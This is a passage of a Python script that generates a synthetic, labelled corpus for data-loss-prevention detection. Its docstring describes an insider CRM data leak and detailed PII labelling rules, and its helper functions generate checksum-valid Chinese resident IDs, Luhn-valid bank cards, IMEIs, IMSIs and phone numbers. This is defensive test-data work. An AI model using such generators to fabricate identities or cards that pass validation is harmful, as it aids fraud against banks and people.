#!/usr/bin/python3
r"""Synthetic, labelled corpus: personal information found by an operator's data-loss-prevention
(DLP) gateway and security team leaving the network or sitting where it should not.

Scenario: an employee of a Guangzhou branch (the "insider") exports CRM data and sells it to a
buyer ("王哥"); the corpus holds what the DLP gateway, EDR and the security team collected -
pastes, combo lists, black-market chats, proxy captures, quarantined mail, exports in odd
encodings and formats - plus a pseudonymised data set that should be almost clean.
All people, numbers, accounts, tokens and house numbers are invented; streets, estates and
towns are real or real-looking place names; services (pastebin, 163 mail, DingTalk, Telegram)
and companies appear only as context or hard negatives.  Identifiers are valid: resident IDs
have real GB/T 2260 region codes (python-stdnum's loc.dat), valid dates and check characters;
mobiles are in allocated ranges (python-phonenumbers); landlines have real area codes; bank cards
use UnionPay 62 BINs and pass Luhn; IMEIs pass Luhn; IMSIs are 460 + a real MNC; ICCIDs are
8986 + issuer code with a Luhn check digit; USCCs (negatives) have valid check characters.

Files
-----
pastebin_crm_dump_t_cust_info.sql   Paste of a mysqldump 5.7 dump: CREATE TABLE, extended
                                    multi-row INSERTs (13-14 rows per line, lines of several
                                    KB) of t_cust_info (name, ID or passport, mobile, e-mail,
                                    birthday, address, reg IP, MD5 hash next to the plaintext
                                    password, bank card, remarks with escaped \r\n holding
                                    agents' / second numbers), t_bb_order (--complete-insert;
                                    waybills, WeChat Pay transaction numbers, ONU serials),
                                    t_sys_user (staff, bcrypt hashes, workstation IPs).
                                    Two legacy 15-digit IDs.
combo_list_2406_fresh.txt           Combo list: phone----password (---, ------, padded, +86),
                                    email:password (also ; | and " : "), ID|name|phone,
                                    ID||name||phone||address, TAB name/ID/phone/bank/card,
                                    full-width "；" lines with birth dates, a messy mixed section
                                    (query-string lines, 服务密码 lines); some CRLF lines.
tg_qq_blackmarket_chat_export.txt   Telegram export and a QQ group log: ads with prices
                                    (U/条, USDT) and unmasked sample rows pasted inline, masked
                                    previews, a look-up service (phone -> owner, IMSI -> phone,
                                    location result), call-spoofing / fake-base-station ads and
                                    phishing SMS templates using 10086 / 95588, car-owner rows
                                    with plates, SIM recycling rows with ICCID and 服务密码,
                                    passports with pinyin names, credential-stuffing hits with
                                    IPs, a victim's message.
dlp_proxy_http_capture_20240612.log DLP proxy capture: a metadata line (src/dst IP) and the
                                    raw HTTP request for each capture: form bodies
                                    (application/x-www-form-urlencoded) in UTF-8 and in GBK
                                    percent-encoding, a webmail login and a webmail compose with
                                    the whole message percent-encoded ("+" for space, %0A),
                                    multipart/form-data with a CSV attachment part and a token
                                    field, multipart with a JSON device file, JSON APIs (Bearer
                                    JWT; \uXXXX-escaped Chinese; text content of a DingTalk
                                    robot message with access_token in the URL), a pastebin API
                                    post, a location push (lat / lng fields), a GET with a
                                    %20-encoded query string, a benign heartbeat.
quarantined_outbound_mail.mbox      Three quarantined messages: customer list pasted as a pipe
                                    table, the buyer's reply quoting rows and a QQ-mail style
                                    "原始邮件" header block, a fixed-width table (full-width
                                    padding) with bank cards and birth dates, a signature.
                                    Display names in From: are RFC 2047 base64 (not labelled).
crm_export_gbk_202406.csv           CRM export as Chinese Windows Excel writes it: GBK, CRLF;
                                    IDs sometimes as ="..." text formulas, one ID mangled by Excel
                                    into 1.10105E+17 (value lost, not labelled), passports,
                                    landlines written (area)number or area-number, family
                                    members in remarks, account managers.
mongoexport_appdb_users.json        mongoexport JSON lines (extended JSON: $oid, $date,
                                    $numberLong): realName, idCardNo, mobile, e-mail, birthday
                                    (plain string or {"$date": ...}), bcrypt hash, devices
                                    (IMEI / IMSI / ICCID, OS and app versions), home address
                                    with GeoJSON coordinates, plates, emergency contact, last
                                    login IP (IPv4 or IPv6), lastPos lat / lng; two minors.
redis_cli_session_capture.txt       redis-cli sessions: --raw output (plain UTF-8) and default
                                    output (non-ASCII shown as \xNN escapes); keys holding phone
                                    numbers (user:<phone>:profile), HGETALL profiles, GEOPOS,
                                    auth tokens inside key names, a SIM hash keyed by ICCID,
                                    CONFIG GET requirepass / masterauth, AUTH, a JSON session
                                    string with escaped quotes, an SMS queue.
insider_bash_history_GZ-PC-0231.txt The insider's .bash_history (#epoch lines) and tmux
                                    scrollback: mysql -p'...' / -p..., grep for a phone / an ID,
                                    ID-card image file names "<ID>_<name>_front.jpg",
                                    redis-cli -a, zip -P, sshpass -p + scp, a Telegram bot token
                                    in a URL, a Bearer token, curl -d with a form body, ls -lh
                                    sizes, head output of the export.
incident_report_IR-2024-0613-002.md Incident report in Chinese prose (Markdown): timeline,
                                    masked sample table, complaining customers, insider and
                                    buyer identified, staff, case / report numbers, a vendor
                                    with a USCC, hashes, service numbers.
ocr_crm_screenshots.txt             OCR text of CRM screenshots: letter-spaced labels and names
                                    ("王 秀 英" style), IDs grouped 6-8-4 with spaces, full-width
                                    digits (phones, IDs, an IMSI), addresses wrapped over two
                                    lines, IMEIs written AA-BBBBBB-CCCCCC-D, cards in groups of
                                    four, plates with "·", padded two-character names
                                    ("张　军"), session ids, customer numbers.
vip_customers_202406_export.tsv     Spreadsheet saved as TSV: title row, exporter row, a
                                    two-level (merged-cell) header, subtotal / total rows,
                                    footer note.
pseudonymised_share_dataset_v2.csv  Data set pseudonymised for a partner: tok_... tokens,
                                    SHA-256 hashes, masked names / phones / IDs / e-mails / IPs
                                    (张*, 138****5678, 4101**********4427, z***@163.com,
                                    first two IP octets + .*.*), birth year only, age bands.  Only the few
                                    values the masking missed are labelled (a name, a phone,
                                    an ID, an e-mail, an IP, a phone and an address in remarks,
                                    the contact person in the header comment).
kashang_sim_card_list_0611.txt      SIM dealer's list: pipe table (phone, ICCID, IMSI,
                                    服务密码, owner, ID), SIM re-issue blocks (old / new ICCID),
                                    a device-binding CSV (IMEI, IMSI, MSISDN).
dlp_gateway_alerts_20240612.jsonl   DLP alert events (JSON lines): source / destination IPs,
                                    file SHA-256, match excerpts (unmasked excerpts labelled,
                                    masked ones not).
xlsx_extracted_xl_sharedStrings.xml xl/sharedStrings.xml of an .xlsx as the DLP content
                                    extractor sees it: one long line of <si><t>, rich-text runs,
                                    xml:space="preserve" values with a leading space, &amp;.

labels.jsonl: one object per line {"file", "start", "end", "type"}, sorted by file then start;
start / end are byte offsets (end exclusive) into the file AS WRITTEN: UTF-8 for every file
except crm_export_gbk_202406.csv, whose offsets count its GBK bytes.  Labels never overlap.

Label conventions
-----------------
Every occurrence of a real (unmasked) value of a private person (customer, family member,
operator staff, the insider, the buyer) is labelled, as written.
* Encoded values: a value written percent-encoded (UTF-8 or GBK, "+" or %20 for spaces) in a
  form body, URL or query string, \uXXXX-escaped in JSON, or \xNN-escaped by redis-cli is
  labelled over its encoded span as written when it decodes to a value of the type, e.g.
  name=%E5%BC%A0%E4%BC%9F (张伟) -> PERSON_NAME over the whole %-span; xm=%D5%C5%CE%B0 (张伟
  in GBK) likewise; a phone written 138+1234+5678 in a form body is one PHONE_NUMBER span; uid=liujianguo_gz%40163.com -> EMAIL_ADDRESS over "liujianguo_gz%40163.com".
  Base64 (RFC 2047 encoded words in mail headers, the payload inside a JWT) is not decoded or
  labelled.
* PERSON_NAME: the name only, without 先生 / 女士 / titles; pinyin names next to passports
  (capitals, "ZHANG WEI" style); letter-spaced OCR names and padded names whole, inner spaces included
  ("王 秀 英", "张　军"); a name inside a file name ("<ID>_<name>_front.jpg") or a quoted mail
  header ("王志刚" <...>).  Not labelled: nicknames and handles (王哥, 龙哥, 老周, @longge_sjk,
  user names such as liujg), QQ numbers, staff numbers (GD104523), masked names (张*, 王**),
  company / shop names containing surnames (张记通讯器材经营部, 王氏集团, 李宁体育用品有限公司).
* CHINA_RESIDENT_ID_NUMBER: 18-digit IDs (X or x), the two legacy 15-digit IDs, full-width
  IDs, OCR IDs grouped 6-8-4 with spaces (whole span), the digits inside ="..." (not the
  quotes).  The birth date inside an ID is not labelled separately.  Not labelled: masked IDs,
  the Excel-mangled 1.10105E+17.
* PHONE_NUMBER: mobiles and home landlines of persons as written (+86 / 0086 / 86- prefixes,
  dashes, spaces, full-width digits, (area)number); a number inside a Redis key
  (user:<phone>:profile) is labelled alone.  A number that is the local part of an e-mail
  (13812345678@139.com) is only part of the EMAIL_ADDRESS label.  Not labelled: service
  numbers (10086, 10010, 1008611, 95588, 95588-8, 95533, 12321, 110), extensions (分机 8231),
  business-hall numbers, masked numbers (139****4522), QQ numbers, timestamps.
* EMAIL_ADDRESS: personal mailboxes and staff's named mailboxes (name@gd.chinamobile.com).
  Not labelled: masked (z***@163.com), Message-IDs.
* BANK_CARD_NUMBER: 16-19 digits, contiguous or in groups of four with spaces (whole span).
  Not labelled: "尾号 6621", 28-digit WeChat Pay transaction numbers, 20-digit ETC cards.
* STREET_ADDRESS: a person's address (home, contact, install, delivery, 户籍地 given with street
  and number), whole, from the first place name as written (province, city or district) to the
  last detail (room / 组号); spaced forms whole including spaces; an OCR address wrapped over two
  lines is one label per line.  Not labelled: a city alone (city column), masked partial
  addresses (a city and district followed by ****), business halls.
* DATE_OF_BIRTH: birth dates in any format (1988-03-02, 1988/3/2, 19880302, 1988年3月2日,
  1988.03.02 ...); for mongo {"$date":"1990-12-12T00:00:00Z"} only "1990-12-12".  Not
  labelled: a birth year alone, age bands, other dates (入网, 交强险到期, 签约, create_time).
* IP_ADDRESS: every full IPv4 / IPv6 host address - subscribers' login / registration IPs,
  staff workstations, and also the servers in the story (CRM database, the exfiltration VPS,
  external services' addresses in capture / alert metadata); the port is not included.  Not
  labelled: masked IPs (113.45.*.*), version strings (10.0.19041.1, 7.4.2.1180, 4.0.0.126),
  host names.
* CREDENTIAL: the secret value only, never the key or option: passwords (plaintext login
  passwords, 6-digit 服务密码, mysql -p, Redis requirepass / masterauth / AUTH, zip -P,
  sshpass -p, a webmail password), API secrets (appSecret, api_dev_key, the upload token form
  field), bearer tokens (JWT, tsk_...), an access_token in a URL, a Telegram bot token, tokens in
  Redis key names (auth:token:<token>).  Not labelled: hashes (pwd_md5, bcrypt passwordHash,
  sign=, SHA-256), appKey / appId, session ids (sessionId, sid=, 会话ID), trace / request ids,
  UUIDs, pushId, nonce.
* IMSI_ID (460 + MNC + 10 digits, also full-width); IMEI_HARDWARE_ID (15 digits, Luhn; also
  AA-BBBBBB-CCCCCC-D, whole span); ICCID_NUMBER (8986..., 19 or 20 digits).
* CHINA_PASSPORT: E + 8 digits, E + letter + 7 digits, G + 8 digits.
* CHINA_LICENSE_PLATE: province abbreviation + city letter + 5 characters (6 for new-energy
  D / F plates), written with nothing, "·" or a space after the city letter (whole span).
  Not labelled: VIN codes, ETC card numbers.
* LOCATION_COORDINATES: a latitude / longitude pair written together is one label from the
  first number to the last ("31.230416,121.473701" or "31.23042, 121.47370"; GeoJSON
  "[121.473701,31.230416]" without the brackets); when latitude and longitude are separate fields (lat= / lng= form fields,
  "lat": / "lng": keys, GEOPOS output lines) each number is its own label.
* Hard negatives, never labelled: customer, order, work-order, transfer, batch and waybill
  numbers (SF / YT / JT / JDV / EMS ...CN), WeChat Pay transaction numbers, millisecond
  timestamps and epoch seconds, USCCs, MD5 / SHA-1 / SHA-256 / bcrypt, UUIDs, session / trace
  ids, prices and amounts, file sizes and byte counts, version strings, QQ and group numbers,
  USDT addresses, VINs, ETC card numbers, ONU serials, service numbers, company names with
  surnames.

usage: make_corpus.py [--out DIR]
"""
import argparse
import base64
import datetime as dt
import hashlib
import json
import os
import random
import sys
import uuid
from urllib.parse import quote, quote_plus

import phonenumbers
from phonenumbers import PhoneNumberType
from stdnum import imei as stdimei
from stdnum import imsi as stdimsi
from stdnum import luhn
from stdnum.cn import ric, uscc

SEED = 20240612
R = random.Random(SEED)
DIG = "0123456789"
HEX = "0123456789abcdef"
B62 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"

N = "PERSON_NAME"
RID = "CHINA_RESIDENT_ID_NUMBER"
PH = "PHONE_NUMBER"
EM = "EMAIL_ADDRESS"
BC = "BANK_CARD_NUMBER"
ADDR = "STREET_ADDRESS"
DOB = "DATE_OF_BIRTH"
IP = "IP_ADDRESS"
CRED = "CREDENTIAL"
IMSI = "IMSI_ID"
IMEI = "IMEI_HARDWARE_ID"
ICCID = "ICCID_NUMBER"
PP = "CHINA_PASSPORT"
PLATE = "CHINA_LICENSE_PLATE"
GEO = "LOCATION_COORDINATES"

# ----------------------------------------------------------------------------- document helper


class Doc:
    def __init__(self, name, encoding="utf-8"):
        self.name = name
        self.enc = encoding
        self.buf = bytearray()
        self.labels = []

    def w(self, *parts):
        """parts: str (plain), (value, TYPE) tuples (labelled) or lists of parts."""
        for p in parts:
            if p is None:
                continue
            if isinstance(p, tuple):
                v, typ = p
                b = v.encode(self.enc)
                if typ is None or v == "":
                    self.buf += b
                    continue
                s = len(self.buf)
                self.buf += b
                self.labels.append((s, len(self.buf), typ, v))
            elif isinstance(p, list):
                self.w(*p)
            else:
                self.buf += p.encode(self.enc)

    def ln(self, *parts, nl="\n"):
        self.w(*parts)
        self.w(nl)

    def extend(self, other):
        off = len(self.buf)
        self.buf += other.buf
        self.labels += [(s + off, e + off, t, v) for s, e, t, v in other.labels]


def L(v, t):
    return (v, t)


def flat(parts):
    """Plain text of parts."""
    if parts is None:
        return ""
    if isinstance(parts, tuple):
        return parts[0]
    if isinstance(parts, list):
        return "".join(flat(p) for p in parts)
    return parts


def mapv(parts, fn):
    """Apply a per-character transform (URL/JSON/XML escaping) to every piece, keeping labels.
    The transforms used are per character, so escaping pieces separately equals escaping the
    whole."""
    if parts is None:
        return None
    if isinstance(parts, tuple):
        return (fn(parts[0]), parts[1])
    if isinstance(parts, list):
        return [mapv(p, fn) for p in parts]
    return fn(parts)


def url_utf8(s):
    return quote_plus(s, safe="", encoding="utf-8")


def url_gbk(s):
    return quote_plus(s, safe="", encoding="gbk")


def url_pct20(s):
    return quote(s, safe="", encoding="utf-8")


def json_esc(s):
    return json.dumps(s, ensure_ascii=False)[1:-1]


def json_esc_ascii(s):
    return json.dumps(s, ensure_ascii=True)[1:-1]


def xml_esc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def redis_esc(s):
    out = []
    for ch in s:
        if ch == '"':
            out.append('\\"')
        elif ord(ch) < 128:
            out.append(ch)
        else:
            out.append("".join("\\x%02x" % b for b in ch.encode("utf-8")))
    return "".join(out)


def FW(s):
    """Full-width digits."""
    return "".join(chr(ord(c) + 0xFEE0) if c in DIG else c for c in s)


def rdig(n, first=DIG):
    return R.choice(first) + "".join(R.choice(DIG) for _ in range(n - 1))


def rhex(n, alphabet=HEX):
    return "".join(R.choice(alphabet) for _ in range(n))


# ----------------------------------------------------------------------------- identifiers

_LOC = os.path.join(os.path.dirname(ric.__file__), "loc.dat")
REGIONS = {}
with open(_LOC, encoding="utf-8") as _f:
    for _line in _f:
        if _line[:1].isdigit():
            _code = _line.split()[0]
            REGIONS.setdefault(_code[:2], []).append(_code)
ALL_REGIONS = sorted(c for v in REGIONS.values() for c in v)

CM = ["134", "135", "136", "137", "138", "139", "147", "150", "151", "152", "157", "158", "159",
      "172", "178", "182", "183", "184", "187", "188", "195", "197", "198"]
CU = ["130", "131", "132", "145", "155", "156", "166", "175", "176", "185", "186", "196"]
CT = ["133", "149", "153", "173", "177", "180", "181", "189", "190", "191", "193", "199"]
CBN = ["192"]
CARRIER_PREFIX = [(CM, "CM", 50), (CU, "CU", 25), (CT, "CT", 22), (CBN, "CBN", 3)]
IMSI_MNC = {"CM": ["00", "02", "07", "08"], "CU": ["01", "06", "09"], "CT": ["03", "05", "11"],
            "CBN": ["15"]}
ICCID_ISS = {"CM": ["00", "02", "07", "08"], "CU": ["01", "06", "09"], "CT": ["03", "11"],
             "CBN": ["15"]}
USED = set()


def uniq(fn):
    for _ in range(1000):
        v = fn()
        if v not in USED:
            USED.add(v)
            return v
    raise RuntimeError("no unique value")


def carrier_of(num):
    for lst, c, _ in CARRIER_PREFIX:
        if num[:3] in lst:
            return c
    return "CM"


def mobile(carrier=None):
    def gen():
        while True:
            if carrier:
                lst = [x for x in CARRIER_PREFIX if x[1] == carrier][0][0]
            else:
                lst = R.choices([x[0] for x in CARRIER_PREFIX], [x[2] for x in CARRIER_PREFIX])[0]
            n = R.choice(lst) + rdig(8)
            pn = phonenumbers.parse(n, "CN")
            if phonenumbers.is_valid_number(pn) and phonenumbers.number_type(pn) in (
                    PhoneNumberType.MOBILE, PhoneNumberType.FIXED_LINE_OR_MOBILE):
                return n
    return uniq(gen)


def landline(area):
    def gen():
        while True:
            ln = 8 if len(area) == 3 else R.choice([7, 8])
            n = rdig(ln, "2345678")
            pn = phonenumbers.parse(area + n, "CN")
            if phonenumbers.is_valid_number(pn) and phonenumbers.number_type(pn) == PhoneNumberType.FIXED_LINE:
                return n
    return uniq(gen)


def make_id(prefix2, dob, male):
    def gen():
        pool = REGIONS.get(prefix2) if prefix2 and R.random() < 0.7 else None
        region = R.choice(pool or ALL_REGIONS)
        seq = rdig(2) + R.choice("13579" if male else "02468")
        body = region + dob.strftime("%Y%m%d") + seq
        num = body + ric.calc_check_digit(body + "0")
        assert ric.is_valid(num), num
        return num
    return uniq(gen)


def legacy_id15(dob, male):
    region = R.choice(ALL_REGIONS)
    return region + dob.strftime("%y%m%d") + rdig(2) + R.choice("13579" if male else "02468")


BINS = [("622202", 19), ("621226", 19), ("621700", 19), ("622700", 19), ("622848", 19),
        ("621661", 19), ("622588", 16), ("621483", 16), ("622262", 19), ("623058", 19),
        ("621799", 19), ("622609", 16), ("625807", 16), ("628288", 16), ("622908", 18),
        ("621485", 16), ("623668", 19)]


def bank_card():
    def gen():
        b, n = R.choice(BINS)
        body = b + rdig(n - len(b) - 1)
        return body + luhn.calc_check_digit(body)
    return uniq(gen)


TACS = ["86754203", "86891404", "86971205", "86812004", "86079105", "86420806", "86963305",
        "86537904", "35391110", "35328710", "35467511", "86156606", "86883506", "86403105"]


def make_imei():
    def gen():
        body = R.choice(TACS + ["86" + rdig(6)]) + rdig(6)
        v = body + luhn.calc_check_digit(body)
        assert stdimei.is_valid(v)
        return v
    return uniq(gen)


def make_imsi(carrier):
    def gen():
        v = "460" + R.choice(IMSI_MNC[carrier]) + rdig(10)
        assert stdimsi.is_valid(v), v
        return v
    return uniq(gen)


def make_iccid(carrier, n=20):
    def gen():
        body = "8986" + R.choice(ICCID_ISS[carrier]) + rdig(n - 7)
        return body + luhn.calc_check_digit(body)
    return uniq(gen)


def make_passport():
    def gen():
        k = R.random()
        if k < 0.55:
            return "E" + rdig(8)
        if k < 0.85:
            return "E" + R.choice("ABCDEFGHJKLMNPQRSTUVWXYZ") + rdig(7)
        return "G" + rdig(8)
    return uniq(gen)


PLATE_ABBR = {"北京市": "京", "上海市": "沪", "广东省": "粤", "浙江省": "浙", "江苏省": "苏",
              "四川省": "川", "湖北省": "鄂", "河南省": "豫", "山东省": "鲁", "陕西省": "陕",
              "湖南省": "湘", "福建省": "闽", "重庆市": "渝", "天津市": "津", "黑龙江省": "黑",
              "云南省": "云", "内蒙古自治区": "蒙", "新疆维吾尔自治区": "新", "安徽省": "皖",
              "甘肃省": "甘"}
PL = "ABCDEFGHJKLMNPQRSTUVWXYZ"


def make_plate(prov):
    """Returns (abbr+city letter, rest) so the writer can choose a separator."""
    def gen():
        head = PLATE_ABBR[prov] + R.choice("ABCDEFGH")
        if R.random() < 0.3:
            rest = R.choice("DF") + R.choice(PL + DIG) + rdig(4)
        else:
            chars = [R.choice(DIG) for _ in range(5)]
            for _ in range(R.choice([0, 1, 1, 2])):
                chars[R.randrange(5)] = R.choice(PL)
            rest = "".join(chars)
        return head + "|" + rest
    return tuple(uniq(gen).split("|"))


def plate_str(pl, style=None):
    style = R.choice([0, 0, 1, 2]) if style is None else style
    return pl[0] + ["", "·", " "][style] + pl[1]


CN_ISP_A = [36, 39, 42, 58, 59, 60, 61, 101, 106, 110, 111, 112, 113, 114, 115, 116, 117, 118,
            119, 120, 121, 122, 123, 124, 125, 171, 175, 180, 182, 183, 202, 210, 211, 218, 219,
            220, 221, 222, 223]


def pub_ip():
    return uniq(lambda: "%d.%d.%d.%d" % (R.choice(CN_ISP_A), R.randint(1, 254), R.randint(0, 255),
                                         R.randint(1, 254)))


def lan_ip():
    return uniq(lambda: "10.%d.%d.%d" % (R.randint(1, 60), R.randint(0, 255), R.randint(2, 254)))


def ipv6():
    pre = R.choice(["240e:%x:%x" % (R.randint(0x300, 0x3ff), R.randint(0x1000, 0xffff)),
                    "2408:%x:%x" % (R.randint(0x8200, 0x82ff), R.randint(0x1000, 0xffff)),
                    "2409:%x:%x" % (R.randint(0x8a00, 0x8aff), R.randint(0x1000, 0xffff))])
    return pre + ":%x:%x::%x" % (R.randint(0x1000, 0xffff), R.randint(0, 0xffff), R.randint(1, 0xffff))


# ----------------------------------------------------------------------------- hard negatives


def looks_like_pi(s):
    d = "".join(c for c in s if c.isdigit())
    if len(d) == 18 and ric.is_valid(s[-18:]):
        return True
    if 15 <= len(d) <= 19 and luhn.is_valid(d):
        return True
    if len(d) == 11 and d[0] == "1" and d[1] in "3456789":
        return True
    if len(d) == 15 and d.startswith("460"):
        return True
    if d.startswith("8986") or d.startswith("62"):
        return True
    return False


def neg(fn):
    for _ in range(200):
        v = fn()
        if not looks_like_pi(v):
            return v
    raise RuntimeError


def ms_ts(day=None):
    base = 1718121600000 if day is None else day
    return str(base + R.randint(0, 3 * 86400000))


def order_no(prefix="", n=None, when="20240612"):
    n = n if n is not None else R.choice([16, 18, 19, 20])
    return neg(lambda: prefix + when + rdig(n - len(when)))


def md5hex():
    return hashlib.md5(bytes(R.getrandbits(8) for _ in range(16))).hexdigest()


def sha1hex():
    return hashlib.sha1(bytes(R.getrandbits(8) for _ in range(16))).hexdigest()


def sha256hex():
    return hashlib.sha256(bytes(R.getrandbits(8) for _ in range(16))).hexdigest()


def uuid4():
    return str(uuid.UUID(int=R.getrandbits(128), version=4))


def org_code():
    alph = DIG + "ABCDEFGHJKLMNPQRTUWXY"
    body = "".join(R.choice(alph if i > 1 else DIG) for i in range(8))
    w = [3, 7, 9, 10, 5, 8, 4, 2]
    vals = [int(c) if c.isdigit() else ord(c) - 55 for c in body]
    c = 11 - sum(a * b for a, b in zip(vals, w)) % 11
    return body + {10: "X", 11: "0"}.get(c, str(c))


def make_uscc(region=None):
    region = region or R.choice(ALL_REGIONS)
    body = R.choice(["91", "91", "91", "92", "52"]) + region + org_code()
    v = body + uscc.calc_check_digit(body + "0")
    assert uscc.is_valid(v)
    return v


def tracking():
    k = R.random()
    if k < 0.35:
        return "SF" + rdig(13, "1")
    if k < 0.55:
        return "YT" + rdig(13, "7")
    if k < 0.7:
        return "JT" + rdig(13, "5")
    if k < 0.85:
        return "JDV" + rdig(12)
    return "E" + R.choice("ABM") + rdig(9) + "CN"


def jwt(payload):
    def b64(d):
        return base64.urlsafe_b64encode(d).rstrip(b"=").decode()
    h = b64(json.dumps({"alg": "HS256", "typ": "JWT"}, separators=(",", ":")).encode())
    p = b64(json.dumps(payload, separators=(",", ":")).encode())
    return h + "." + p + "." + b64(bytes(R.getrandbits(8) for _ in range(32)))


def token(n=32, prefix=""):
    return prefix + "".join(R.choice(B62) for _ in range(n))


SERVICE_NUMBERS = ["10086", "10010", "10000", "10085", "95588", "95555", "95533", "95599",
                   "95566", "95559", "12321", "12315", "4008-100-100"]
SURNAME_COMPANIES = ["张记通讯器材经营部", "王氏集团", "李宁体育用品有限公司", "刘家香餐饮管理有限公司",
                     "陈李济药厂", "周大福珠宝", "杨国福麻辣烫", "黄氏贸易有限公司", "赵家湾物流有限公司",
                     "孙记数码科技有限公司", "吴良材眼镜", "马家沟农业合作社"]

# ----------------------------------------------------------------------------- people

SURNAMES = [("王", "wang", 9), ("李", "li", 9), ("张", "zhang", 9), ("刘", "liu", 7), ("陈", "chen", 7),
            ("杨", "yang", 4), ("黄", "huang", 4), ("赵", "zhao", 4), ("吴", "wu", 3), ("周", "zhou", 3),
            ("徐", "xu", 3), ("孙", "sun", 3), ("马", "ma", 3), ("朱", "zhu", 2), ("胡", "hu", 2),
            ("郭", "guo", 2), ("何", "he", 2), ("高", "gao", 2), ("林", "lin", 2), ("罗", "luo", 2),
            ("郑", "zheng", 2), ("梁", "liang", 2), ("谢", "xie", 1), ("宋", "song", 1), ("唐", "tang", 1),
            ("许", "xu", 1), ("韩", "han", 1), ("冯", "feng", 1), ("邓", "deng", 1), ("曹", "cao", 1),
            ("彭", "peng", 1), ("曾", "zeng", 1), ("肖", "xiao", 1), ("田", "tian", 1), ("董", "dong", 1),
            ("袁", "yuan", 1), ("潘", "pan", 1), ("于", "yu", 1), ("蒋", "jiang", 1), ("蔡", "cai", 1),
            ("余", "yu", 1), ("杜", "du", 1), ("叶", "ye", 1), ("程", "cheng", 1), ("苏", "su", 1),
            ("魏", "wei", 1), ("吕", "lv", 1), ("丁", "ding", 1), ("任", "ren", 1), ("沈", "shen", 1),
            ("姚", "yao", 1), ("卢", "lu", 1), ("姜", "jiang", 1), ("崔", "cui", 1), ("钟", "zhong", 1),
            ("谭", "tan", 1), ("陆", "lu", 1), ("汪", "wang", 1), ("范", "fan", 1), ("金", "jin", 1),
            ("石", "shi", 1), ("廖", "liao", 1), ("贾", "jia", 1), ("夏", "xia", 1), ("韦", "wei", 1),
            ("付", "fu", 1), ("方", "fang", 1), ("白", "bai", 1), ("邹", "zou", 1), ("孟", "meng", 1),
            ("熊", "xiong", 1), ("秦", "qin", 1), ("邱", "qiu", 1), ("江", "jiang", 1), ("尹", "yin", 1),
            ("薛", "xue", 1), ("闫", "yan", 1), ("段", "duan", 1), ("雷", "lei", 1), ("侯", "hou", 1),
            ("龙", "long", 1), ("史", "shi", 1), ("黎", "li", 1), ("贺", "he", 1), ("顾", "gu", 1),
            ("毛", "mao", 1), ("郝", "hao", 1), ("龚", "gong", 1), ("邵", "shao", 1), ("覃", "qin", 1),
            ("欧阳", "ouyang", 1), ("司马", "sima", 0.4), ("上官", "shangguan", 0.4), ("诸葛", "zhuge", 0.3),
            ("皇甫", "huangfu", 0.3), ("佘", "she", 0.4), ("訾", "zi", 0.3), ("阙", "que", 0.3),
            ("冼", "xian", 0.4), ("单", "shan", 0.4), ("仇", "qiu", 0.3)]
G_M = [("伟", "wei"), ("强", "qiang"), ("磊", "lei"), ("军", "jun"), ("勇", "yong"), ("杰", "jie"),
       ("涛", "tao"), ("斌", "bin"), ("超", "chao"), ("鹏", "peng"), ("浩", "hao"), ("宇", "yu"),
       ("俊", "jun"), ("峰", "feng"), ("刚", "gang"), ("辉", "hui"), ("健", "jian"), ("亮", "liang"),
       ("凯", "kai"), ("鑫", "xin"), ("波", "bo"), ("毅", "yi"), ("睿", "rui"), ("晨", "chen"), ("栋", "dong")]
G_F = [("秀", "xiu"), ("英", "ying"), ("丽", "li"), ("静", "jing"), ("婷", "ting"), ("敏", "min"),
       ("燕", "yan"), ("芳", "fang"), ("娜", "na"), ("慧", "hui"), ("雪", "xue"), ("琳", "lin"),
       ("颖", "ying"), ("倩", "qian"), ("玲", "ling"), ("霞", "xia"), ("梅", "mei"), ("艳", "yan"),
       ("萍", "ping"), ("悦", "yue"), ("怡", "yi"), ("璐", "lu"), ("瑶", "yao"), ("蕾", "lei")]
G_N = [("明", "ming"), ("华", "hua"), ("建", "jian"), ("国", "guo"), ("文", "wen"), ("晓", "xiao"),
       ("海", "hai"), ("志", "zhi"), ("子", "zi"), ("嘉", "jia"), ("思", "si"), ("雨", "yu"),
       ("一", "yi"), ("阳", "yang"), ("宏", "hong"), ("春", "chun"), ("玉", "yu"), ("平", "ping"),
       ("红", "hong"), ("博", "bo"), ("天", "tian"), ("永", "yong"), ("立", "li"), ("新", "xin"),
       ("泽", "ze"), ("云", "yun"), ("金", "jin"), ("佳", "jia"), ("欣", "xin"), ("小", "xiao")]
MINORITY = [("阿依古丽·买买提", "ayiguli", "F", "65"), ("买买提·艾力", "maimaiti", "M", "65"),
            ("扎西次仁", "zhaxiciren", "M", "54"), ("格桑卓玛", "gesangzhuoma", "F", "54"),
            ("巴特尔", "bateer", "M", "15"), ("热依拉·吐尔逊", "reyila", "F", "65"),
            ("乌兰托娅", "wulantuoya", "F", "15")]

# prov, city, area code, lat, lon, [(district, [streets], [estates])]
CITIES = [
    ("北京市", "北京市", "010", 39.9042, 116.4074, [
        ("朝阳区", ["望京西路", "朝阳北路", "建国路", "酒仙桥路", "安立路"], ["望京花园", "远洋天地", "华贸公寓", "金隅丽港城"]),
        ("海淀区", ["中关村大街", "学院路", "苏州街", "西三环北路"], ["万柳书院", "世纪城", "当代城市家园"]),
        ("丰台区", ["南四环西路", "丰台北路"], ["富丰园", "万年花城"])]),
    ("上海市", "上海市", "021", 31.2304, 121.4737, [
        ("浦东新区", ["张杨路", "世纪大道", "锦绣路", "杨高南路"], ["仁恒滨江园", "世茂滨江花园", "金杨新村"]),
        ("徐汇区", ["漕溪北路", "田林路", "虹梅路"], ["田林十二村", "徐汇苑"]),
        ("闵行区", ["莘松路", "七莘路"], ["万科城市花园", "春申景城"])]),
    ("广东省", "广州市", "020", 23.1291, 113.2644, [
        ("天河区", ["天河路", "体育西路", "黄埔大道西", "中山大道西"], ["汇景新城", "华港花园", "骏景花园"]),
        ("海珠区", ["江南大道中", "新港西路"], ["珠江帝景", "愉景雅苑"]),
        ("白云区", ["机场路", "白云大道北"], ["万科云城", "金沙洲新社区"])]),
    ("广东省", "深圳市", "0755", 22.5431, 114.0579, [
        ("南山区", ["科技南十二路", "南海大道", "桃园路", "沙河西路"], ["蔚蓝海岸", "后海花园", "桃源村"]),
        ("福田区", ["深南中路", "福华路", "景田北路"], ["香蜜湖一号", "景田花园"]),
        ("宝安区", ["新安六路", "宝民二路"], ["西乡美丽家园", "海滨广场"]),
